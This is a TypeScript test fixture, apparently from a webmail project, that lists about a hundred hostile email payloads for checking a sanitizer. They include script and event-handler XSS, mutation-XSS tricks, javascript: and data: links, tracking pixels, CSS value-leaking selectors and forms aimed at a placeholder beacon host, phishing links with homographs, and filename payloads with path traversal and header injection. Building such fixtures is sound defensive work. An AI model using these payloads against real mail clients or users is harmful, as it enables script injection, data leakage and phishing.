/** What a hostile mail tries. Written for this project. `B` stands for the beacon host, which no browser may ever ask. */
export interface Payload {
  name: string
  html?: string
  /** Fields beside From, To and Subject. */
  subject?: string
  fromName?: string
  filename?: string
  text?: string
}

const js = 'top.__hit=1;window.__hit=1;alert(1)'

const scripts: Record<string, string> = {
  script: `<script>${js}</script>`,
  'script in capitals': `<SCRIPT>${js}</SCRIPT>`,
  'script from elsewhere': '<script src="https://B/a.js"></script>',
  'module script': `<script type="module">${js}</script>`,
  'script split by a NUL': `<scr\u0000ipt>${js}</scr\u0000ipt>`,
  'script in script': `<scr<script>ipt>${js}</scr</script>ipt>`,
  'script unclosed': `<script>${js}`,
  'script with a slash': `<script/x>${js}</script>`,
  'img onerror': `<img src=x onerror="${js}">`,
  'img onerror without quotes': `<img src=x onerror=top.__hit=1>`,
  'img slash attributes': `<img/src=x/onerror=${js.split(';')[0]}>`,
  'body onload': `<body onload="${js}">x</body>`,
  'svg onload': `<svg onload="${js}"></svg>`,
  'svg script': `<svg><script>${js}</script></svg>`,
  'svg animate': `<svg><a><animate attributeName=href values="javascript:${js}"/><text x=20 y=20>x</text></a></svg>`,
  'svg use': '<svg><use href="https://B/a.svg#x"/></svg>',
  'svg foreignObject': `<svg><foreignObject><img src=x onerror="${js}"></foreignObject></svg>`,
  'svg set': `<svg><set attributeName=onmouseover to="${js}"/></svg>`,
  'math mutation': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  'math href': `<math href="javascript:${js}">x</math>`,
  'noscript mutation': `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  'style mutation': `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  'form mutation': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  'title mutation': `<title><a title="</title><img src=x onerror=${js}>">`,
  'textarea mutation': `<textarea><img title="</textarea><img src=x onerror=${js}>">`,
  'xmp mutation': `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
  'comment end': `<!--><img src=x onerror=${js}>-->`,
  'conditional comment': `<!--[if gte IE 4]><script>${js}</script><![endif]-->`,
  'cdata': `<![CDATA[><img src=x onerror=${js}>]]>`,
  'processing instruction': `<?xml-stylesheet href="https://B/a.xsl"?><?x ><img src=x onerror=${js}>`,
  'template': `<template><script>${js}</script></template><template shadowrootmode=open><script>${js}</script></template>`,
  'details ontoggle': `<details open ontoggle="${js}">x</details>`,
  'input autofocus': `<input autofocus onfocus="${js}">`,
  'select autofocus': `<select autofocus onfocus="${js}"></select>`,
  'contenteditable autofocus': `<div contenteditable autofocus tabindex=1 onfocus="${js}">x</div>`,
  'marquee': `<marquee onstart="${js}">x</marquee>`,
  'video source': `<video><source onerror="${js}"></video><video src="https://B/v.mp4" autoplay poster="https://B/p.png"></video>`,
  'audio': '<audio src="https://B/a.mp3" autoplay></audio>',
  'object': `<object data="data:text/html,<script>${js}</script>"></object><object data="https://B/o"></object>`,
  'embed': '<embed src="https://B/e.swf">',
  'applet': '<applet code="https://B/x.class"></applet>',
  'iframe': '<iframe src="https://B/"></iframe>',
  'iframe srcdoc': `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  'iframe javascript': `<iframe src="javascript:${js}"></iframe>`,
  'frameset': '<frameset><frame src="https://B/"></frameset>',
  'portal': '<portal src="https://B/"></portal><fencedframe src="https://B/"></fencedframe>',
  'isindex': `<isindex type=image src=1 onerror=${js}>`,
  'is attribute': `<button is=x-y popovertarget=p onbeforetoggle="${js}">x</button><div popover id=p onbeforetoggle="${js}">x</div>`,
  'animation handler': `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${js}">x</p>`,
  'transition handler': `<a id=x style="transition:outline 1s" ontransitionend=${js} tabindex=1>x</a>`,
  'clobbering': '<form id=document name=body><input name=cookie><img name=getElementById></form>',
}

const links: Record<string, string> = {
  'javascript link': `<a href="javascript:${js}">x</a>`,
  'javascript link with tabs': `<a href="java&#9;script:${js}">x</a>`,
  'javascript link with entities': `<a href="&#106;&#97;vascript&colon;${js}">x</a>`,
  'javascript link with a control character': `<a href="\u0001javascript:${js}">x</a>`,
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data link': `<a href="data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString('base64')}">x</a>`,
  'blob and file links': '<a href="blob:https://B/1">x</a><a href="file:///etc/passwd">x</a>',
  'xlink': `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`,
  'link to the top': '<a href="https://B/" target="_top">x</a><a href="https://B/" target="_parent">y</a>',
  'ping': '<a href="https://a.example/" ping="https://B/ping">x</a>',
  'area': '<map name=m><area href="javascript:1" shape=default ping="https://B/"></map><img usemap="#m" src=x>',
  'another domain than it says': '<a href="https://evil.example/login">https://bank.example/login</a>',
  'an IDN homograph': '<a href="https://b\u0430nk.example/">bank.example</a>',
  'a user part': '<a href="https://bank.example@evil.example/">https://bank.example</a>',
  'a picture over all': '<a href="https://evil.example/" style="position:fixed;inset:0;z-index:9999">x</a>',
}

const loads: Record<string, string> = {
  'tracking pixel': '<img src="https://B/p.gif" width=1 height=1>',
  'pixel over http': '<img src="http://B/p.gif">',
  'pixel without scheme': '<img src="//B/p.gif">',
  'pixel with backslashes': '<img src="\\\\B\\p.gif"><img src="/\\B/p.gif">',
  'srcset': '<img srcset="https://B/1.png 1x, https://B/2.png 2x"><picture><source srcset="https://B/3.png"><img src=x></picture>',
  'lazy': '<img loading=eager src="https://B/p.gif" fetchpriority=high>',
  'relative picture': '<img src="/api/auth/signout"><img src="../../../../api/v1/messages">',
  'svg in a data picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'><image href='https://B/x'/></svg>">`,
  'svg image': '<svg><image href="https://B/x.png" xlink:href="https://B/x.png"/><feImage href="https://B/y"/></svg>',
  'background attribute': '<body background="https://B/b.png"><table background="https://B/t.png"><tr><td background="https://B/d.png">x</table>',
  'input image': '<input type=image src="https://B/i.png">',
  'link stylesheet': '<link rel=stylesheet href="https://B/s.css">',
  'link preload': '<link rel=preload as=image href="https://B/p"><link rel=modulepreload href="https://B/m"><link rel=prefetch href="https://B/f"><link rel=icon href="https://B/i">',
  'dns-prefetch': '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel=dns-prefetch href="https://B/"><link rel=preconnect href="https://B/">',
  'meta refresh': '<meta http-equiv=refresh content="0;url=https://B/">',
  'meta refresh to script': `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  'meta policy': `<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>${js}</script>`,
  'base': '<base href="https://B/" target="_top"><img src="p.gif"><a href="x">x</a>',
  'manifest': '<html manifest="https://B/m"><link rel=manifest href="https://B/m">',
  'import in style': '<style>@import "https://B/s.css"; @import url(//B/t.css);</style>',
  'font': '<style>@font-face{font-family:x;src:url(https://B/f.woff)}*{font-family:x}</style>x',
  'css url': '<p style="background:url(https://B/b.png)">x</p><p style="list-style:url(//B/l.png)">x</p><p style="cursor:url(https://B/c),auto">x</p>',
  'css escapes': '<p style="back\\67 round:u\\72 l(https://B/b.png)">x</p><p style="background:\\75\\72\\6c(https://B/c)">x</p>',
  'css comments': '<p style="background/**/:/**/url/**/(https://B/b.png)">x</p>',
  'css image-set': '<p style="background:image-set(\'https://B/b.png\' 1x)">x</p><p style="background:-webkit-image-set(url(https://B/c) 1x)">x</p>',
  'css content': '<style>p::before{content:url(https://B/c.png)}p{border-image:url(https://B/d)}</style><p>x</p>',
  'css expression': `<p style="width:expression(${js});behavior:url(https://B/h.htc);-moz-binding:url(https://B/x.xml#x)">x</p>`,
  'css that reads': '<style>input[value^=a]{background:url(https://B/a)}</style><input value=abc>',
  'form': '<form action="https://B/f" method=post><input name=a value=b><button formaction="https://B/g">x</button></form>',
  'form that sends itself': `<form id=f action="https://B/f"></form><script>f.submit()</script><input form=f type=image src=x onerror="f.submit()">`,
}

const heads: Payload[] = [
  { name: 'subject of markup', subject: `<img src=x onerror="${js}"><script>${js}</script>` },
  { name: 'subject that turns', subject: 'Pay \u202Egpj.eciovni\u202C now \u200B\u2066x' },
  { name: 'sender of markup', fromName: `"><script>${js}</script>` },
  { name: 'sender that is another', fromName: 'ceo@bank.example <ceo@bank.example>' },
  { name: 'file of markup', filename: `"><img src=x onerror=${js}>.html` },
  { name: 'file with a path', filename: '../../../etc/cron.d/x' },
  { name: 'file with another header', filename: 'a.txt"\r\nContent-Type: text/html\r\nX: "' },
  { name: 'file that turns', filename: 'invoice\u202Efdp.exe' },
  { name: 'text of markup', text: `<script>${js}</script><img src=https://B/p.gif>\n> a\n> <script>${js}</script>\n> c` },
  { name: 'text that goes up', text: 'javascript:alert(1) https://B/ \u001b[2J\u0000\u202E' },
  { name: 'endless nesting', html: `${'<div><b><table><tr><td>'.repeat(8000)}<img src=x onerror="${js}">` },
  { name: 'endless attributes', html: `<p ${Array.from({ length: 5000 }, (_, i) => `a${i}="${js}"`).join(' ')} onclick="${js}">x</p>` },
]

const of = (group: Record<string, string>): Payload[] => Object.entries(group).map(([name, html]) => ({ name, html }))

export const beacon = 'beacon.hostile.example'
const named = (text: string | undefined) => text?.replace(/\bB(?=[/:"'#)\\])/g, beacon)

/** Some hundred of them; each stands in a mail of its own. */
export const payloads: Payload[] = [...of(scripts), ...of(links), ...of(loads), ...heads].map(({ html, text, ...rest }) => ({
  ...rest,
  ...(html !== undefined && { html: named(html)! }),
  ...(text !== undefined && { text: named(text)! }),
}))
